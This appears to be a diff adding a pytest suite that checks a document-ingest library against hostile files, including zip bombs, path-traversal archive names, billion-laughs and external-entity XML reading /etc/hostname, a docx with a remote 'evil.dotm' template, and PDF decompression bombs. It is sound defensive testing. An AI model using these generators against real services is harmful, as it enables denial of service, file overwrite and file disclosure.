@@ -1,0 +1,323 @@
+"""Hostile files: each ends in its coded error, or is read harmlessly, within one GiB and a minute."""
+
+from __future__ import annotations
+
+import io
+import json
+import random
+import struct
+import subprocess
+import sys
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+import docx
+import pytest
+import xlsxwriter
+
+GIB = 2**30
+SECONDS = 60
+ROOT = Path(__file__).resolve().parents[2]
+TEXT = "某县公开招聘公告\n\n一、岗位\n招聘司机二名，具体要求见下文。\n".encode()
+CHILD = """
+import json, resource, sys
+resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30))
+resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
+from ingest import read_all
+from schema.errors import JinbangError
+try:
+    documents = read_all(sys.argv[1])
+    said = {"code": None, "names": [d.name for d in documents], "warnings": [w for d in documents for w in d.warnings],
+            "size": sum(len(d.text) for d in documents), "media": [d.media_type for d in documents]}
+except JinbangError as error:
+    said = {"code": error.code, "hint": error.hint, "message": str(error)}
+said["memory"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
+print(json.dumps(said))
+"""
+
+
+def attempt(tmp_path: Path, data: bytes, name: str) -> dict:
+    """What a process of its own says about the file; it has to end in time and below one GiB."""
+    path = tmp_path / name
+    path.write_bytes(data)
+    done = subprocess.run(
+        [sys.executable, "-c", CHILD, str(path)], cwd=ROOT, capture_output=True, text=True, timeout=SECONDS, check=False
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    said = json.loads(done.stdout)
+    assert said["memory"] < GIB
+    return said
+
+
+def zipped(*parts: tuple[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, data in parts:
+            package.writestr(name, data)
+    return out.getvalue()
+
+
+def zip_bomb() -> bytes:
+    return zipped(("a.txt", b"0" * (60 * 2**20)))
+
+
+def many_large_members() -> bytes:
+    return zipped(*((f"{i}.txt", b"0123456789" * (3 * 2**20)) for i in range(9)))
+
+
+def lying_zip() -> bytes:
+    """The directory says 10 bytes, the data are 50 MB."""
+    data = bytearray(zipped(("a.txt", b"7" * (50 * 2**20))))
+    for mark, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
+        at = data.index(mark) + place
+        data[at : at + 4] = struct.pack("<I", 10)
+    return bytes(data)
+
+
+def nested(depth: int) -> bytes:
+    data = TEXT
+    for i in range(depth):
+        data = zipped((f"{i}.zip" if i else "a.txt", data))
+    return data
+
+
+def bombs_in_archives() -> bytes:
+    """Each archive is below every limit, all of them together are not."""
+    inner = zipped(("a.txt", b"01234567\n" * (3 * 2**20)))
+    return zipped(*((f"{i}.zip", inner) for i in range(40)))
+
+
+def slip(name: str) -> Callable[[], bytes]:
+    return lambda: zipped((name, TEXT), ("b.txt", TEXT))
+
+
+def nul_name() -> bytes:
+    return zipped(("aXb.txt", TEXT)).replace(b"aXb.txt", b"a\0b.txt")
+
+
+WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def word(body: str, dtd: str = "") -> bytes:
+    xml = f'<?xml version="1.0"?>{dtd}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
+    return zipped(("word/document.xml", xml.encode()))
+
+
+def paragraph(text: str) -> str:
+    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
+
+
+def billion_laughs() -> bytes:
+    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
+    return word(paragraph("&a9;"), f"<!DOCTYPE x [{entities}]>")
+
+
+def external_entity() -> bytes:
+    return word(paragraph("&x;"), '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/hostname">]>')
+
+
+def laughs_in_a_sheet() -> bytes:
+    parts = workbook(lambda sheet: sheet.write(0, 0, "序号"))
+    with zipfile.ZipFile(io.BytesIO(parts)) as package:
+        held = {info.filename: package.read(info) for info in package.infolist()}
+    entity = b'<!DOCTYPE x [<!ENTITY a "ha">]><worksheet'
+    held["xl/worksheets/sheet1.xml"] = held["xl/worksheets/sheet1.xml"].replace(b"<worksheet", entity)
+    return zipped(*held.items())
+
+
+def deep_word() -> bytes:
+    return word("<w:sdt>" * 5000 + paragraph("公告") + "</w:sdt>" * 5000)
+
+
+def document() -> bytes:
+    made = docx.Document()
+    made.add_paragraph("某县公开招聘公告")
+    made.add_paragraph("招聘司机二名，具体要求见下文。")
+    out = io.BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
+def remote_template() -> bytes:
+    relations = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
+    )
+    with zipfile.ZipFile(io.BytesIO(document())) as package:
+        held = {info.filename: package.read(info) for info in package.infolist()}
+    return zipped(*{**held, "word/_rels/settings.xml.rels": relations}.items())
+
+
+def workbook(fill: Callable[[xlsxwriter.worksheet.Worksheet], object]) -> bytes:
+    out = io.BytesIO()
+    book = xlsxwriter.Workbook(out, {"in_memory": True})
+    fill(book.add_worksheet())
+    book.close()
+    return out.getvalue()
+
+
+def sheet_xml(cells: str, dimension: str = "A1:XFD1048576") -> bytes:
+    """A workbook whose sheet says what it likes."""
+    parts = workbook(lambda sheet: sheet.write(0, 0, "序号"))
+    with zipfile.ZipFile(io.BytesIO(parts)) as package:
+        held = {info.filename: package.read(info) for info in package.infolist()}
+    held["xl/worksheets/sheet1.xml"] = (
+        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        f'<dimension ref="{dimension}"/><sheetData>{cells}</sheetData></worksheet>'
+    ).encode()
+    return zipped(*held.items())
+
+
+def cell(place: str, quote: str = '"') -> str:
+    return f"<c r={quote}{place}{quote} t={quote}inlineStr{quote}><is><t>公告</t></is></c>"
+
+
+def far_cell() -> bytes:
+    return sheet_xml(f'<row r="1">{cell("A1")}</row><row r="1048576">{cell("XFD1048576")}</row>')
+
+
+def far_cell_first() -> bytes:
+    return sheet_xml(f'<row r="1048576">{cell("XFD1048576")}</row><row r="1">{cell("A1")}</row>')
+
+
+def far_cell_quoted() -> bytes:
+    return sheet_xml(f"<row>{cell('A1', chr(39))}{cell('XFD1048576', chr(39))}</row>")
+
+
+def declared_only() -> bytes:
+    return sheet_xml(f'<row r="1">{cell("A1")}{cell("B1")}</row><row r="2">{cell("A2")}{cell("B2")}</row>')
+
+
+def million_cells() -> bytes:
+    cells = "<c><v>1</v></c>" * 1200
+    return sheet_xml("".join(f"<row>{cells}</row>" for _ in range(1000)))
+
+
+def pdf(stream: bytes, extra: str = "", filters: str = "/FlateDecode", trailer: str = "") -> bytes:
+    packed = zlib.compress(stream, 9)
+    parts = [
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
+        f"<</Length {len(packed)}/Filter {filters}>>\nstream\n".encode() + packed + b"\nendstream",
+        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
+        *([extra.encode()] if extra else []),
+    ]
+    out = b"%PDF-1.4\n"
+    places = []
+    for number, body in enumerate(parts, 1):
+        places.append(len(out))
+        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
+    table = "".join(f"{place:010d} 00000 n \n" for place in places)
+    size = len(parts) + 1
+    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<</Size {size}/Root 1 0 R{trailer}>>"
+    return out + f"{end}\nstartxref\n{len(out)}\n%%EOF".encode()
+
+
+def encrypted_pdf() -> bytes:
+    lock = f"<</Filter/Standard/V 1/R 2/O <{'ab' * 32}>/U <{'cd' * 32}>/P -44>>"
+    return pdf(b"BT /F 12 Tf 80 700 Td (Notice) Tj ET", lock, trailer=f"/Encrypt 6 0 R/ID[<{'01' * 16}><{'01' * 16}>]")
+
+
+def pdf_bomb() -> bytes:
+    return pdf(b" " * (400 * 2**20))
+
+
+def pdf_packed_twice() -> bytes:
+    return pdf(zlib.compress(b" " * (30 * 2**20)), filters="[/FlateDecode /FlateDecode]")
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+
+
+def encrypted_office() -> bytes:
+    names = [name.encode("utf-16-le") for name in ("EncryptionInfo", "EncryptedPackage")]
+    return OLE + b"\0" * 1016 + (b"\0" * 100).join(names) + b"\0" * 3000
+
+
+def truncated_xls() -> bytes:
+    return OLE + b"\0" * 500 + "Workbook".encode("utf-16-le") + b"\0" * 2000
+
+
+def half(data: Callable[[], bytes]) -> Callable[[], bytes]:
+    return lambda: data()[: len(data()) // 2]
+
+
+def plain_pdf() -> bytes:
+    return pdf(b"BT /F 12 Tf 80 700 Td (Notice) Tj ET")
+
+
+REFUSED = [
+    (zip_bomb, "a.zip", "E113"),
+    (many_large_members, "a.zip", "E113"),
+    (lying_zip, "a.zip", "E107"),
+    (bombs_in_archives, "a.zip", "E113"),
+    (lambda: nested(50), "a.zip", "E110"),
+    (slip("../../etc/evil.txt"), "a.zip", "E109"),
+    (slip("..\\evil.txt"), "a.zip", "E109"),
+    (slip("/etc/evil.txt"), "a.zip", "E109"),
+    (slip("C:/evil.txt"), "a.zip", "E109"),
+    (nul_name, "a.zip", "E109"),
+    (billion_laughs, "a.docx", "E109"),
+    (external_entity, "a.docx", "E109"),
+    (laughs_in_a_sheet, "a.xlsx", "E109"),
+    (deep_word, "a.docx", "E110"),
+    (far_cell, "a.xlsx", "E111"),
+    (far_cell_first, "a.xlsx", "E111"),
+    (far_cell_quoted, "a.xlsx", "E111"),
+    (million_cells, "a.xlsx", "E111"),
+    (encrypted_pdf, "a.pdf", "E106"),
+    (encrypted_office, "a.xlsx", "E106"),
+    (encrypted_office, "a.docx", "E106"),
+    (half(plain_pdf), "a.pdf", "E107"),
+    (half(document), "a.docx", "E107"),
+    (half(declared_only), "a.xlsx", "E107"),
+    (truncated_xls, "a.xls", "E107"),
+    (pdf_bomb, "a.pdf", "E113"),
+    (pdf_packed_twice, "a.pdf", "E113"),
+    (lambda: b"", "a.pdf", "E101"),
+    (lambda: ("<div>" * 100_000 + "公告").encode(), "a.html", "E110"),
+    (lambda: ("<b>" * 100_000 + "公告").encode(), "a.html", "E110"),
+    (lambda: b'{"a":' * 100_000 + b'"b"' + b"}" * 100_000, "a.json", "E110"),
+    (lambda: random.Random(3).randbytes(100_000), "a.bin", "E102"),
+]
+
+
+@pytest.mark.parametrize(("make", "name", "code"), REFUSED, ids=lambda value: getattr(value, "__name__", value))
+def test_it_is_refused_with_its_code(tmp_path: Path, make: Callable[[], bytes], name: str, code: str) -> None:
+    said = attempt(tmp_path, make(), name)
+    assert said["code"] == code, said
+    assert said["hint"]
+
+
+HARMLESS = [
+    (remote_template, "a.docx", "remote_part: a attachedTemplate outside the file was not loaded"),
+    (document, "a.pdf", "wrong_extension"),
+    (declared_only, "a.xls", "wrong_extension"),
+    (lambda: b"<html><body><p>" + TEXT + b"</p></body></html>", "a.xls", "wrong_extension"),
+    (lambda: TEXT, "a.docx", "wrong_extension"),
+    (lambda: zipped(("a.txt", TEXT)), "a.xlsx", None),
+    (declared_only, "a.xlsx", None),
+]
+
+
+@pytest.mark.parametrize(("make", "name", "warning"), HARMLESS, ids=lambda value: getattr(value, "__name__", value))
+def test_it_is_read_and_said(tmp_path: Path, make: Callable[[], bytes], name: str, warning: str | None) -> None:
+    said = attempt(tmp_path, make(), name)
+    assert said["code"] is None, said
+    assert warning is None or any(w.startswith(warning) for w in said["warnings"]), said
+
+
+def test_ten_megabytes_in_one_line(tmp_path: Path) -> None:
+    said = attempt(tmp_path, ("报名时间另行通知，" * 370_000).encode(), "a.txt")
+    assert said["size"] == 9 * 370_000
+
+
+@pytest.mark.parametrize("name", ["../../etc/公告.txt", "..\\公告.txt", "/etc/公告.txt", "公\0告.txt", "公\n告.txt"])
+def test_names_keep_their_last_part_only(name: str) -> None:
+    from ingest import read_bytes
+
+    assert read_bytes(TEXT, name).name == "公告.txt"
